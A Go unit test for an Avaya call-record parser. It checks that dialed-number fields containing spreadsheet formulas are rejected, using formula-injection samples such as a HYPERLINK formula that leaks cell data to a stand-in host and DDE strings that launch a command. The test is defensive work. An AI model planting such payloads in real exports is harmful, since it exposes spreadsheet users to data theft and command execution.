package pbx

import (
	"strings"
	"testing"
	"time"

	"callgate/gateway"
)

// TestUndialableDialed: an outgoing record whose dialed number is text or a
// spreadsheet formula is not a call: Parse refuses it, so that it becomes a
// parse exception with its raw record (issue #14, D1). Real dial strings
// still parse.
func TestUndialableDialed(t *testing.T) {
	p, err := NewParser("avaya-ipo", Options{})
	if err != nil {
		t.Fatal(err)
	}
	line := func(dialed string) []byte {
		q := `"` + strings.ReplaceAll(dialed, `"`, `""`) + `"`
		return []byte("2024/11/05 18:40:02,00:01:35,4,415,O," + q + "," + q + ",,0,1004211,0,E415,Room 415,T9005,Line 5.1,0,0,0,n/a,,,,,,,,,,,,,,,,")
	}
	clock := time.Date(2024, 11, 5, 19, 0, 0, 0, time.UTC)
	for _, d := range []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `=1+1`, `-2+3+cmd|' /C calc'!A0`, "0044abc", "12+34"} {
		_, err := p.Parse(gateway.RawRecord{Data: line(d), Received: clock})
		if err == nil || gateway.KindOf(err) != gateway.KindInvalid || !strings.Contains(err.Error(), "no telephone dials") {
			t.Errorf("dialed %q: %v, want a parse error", d, err)
		}
		if err != nil && strings.Contains(err.Error(), "cmd") {
			t.Errorf("the error quotes the record: %v", err)
		}
	}
	for d, want := range map[string]string{"6175550134": "6175550134", "+441632960777": "+441632960777", "*67 617-555-0134": "*67617555013",
		"0049 89 ????": "004989????", "1234#": "1234", "*72#617": "*72617"} {
		c, err := p.Parse(gateway.RawRecord{Data: line(d), Received: clock})
		if err != nil || !strings.HasPrefix(c.Dialed, want) {
			t.Errorf("dialed %q: %q, %v; want %q", d, c.Dialed, err, want)
		}
	}
}
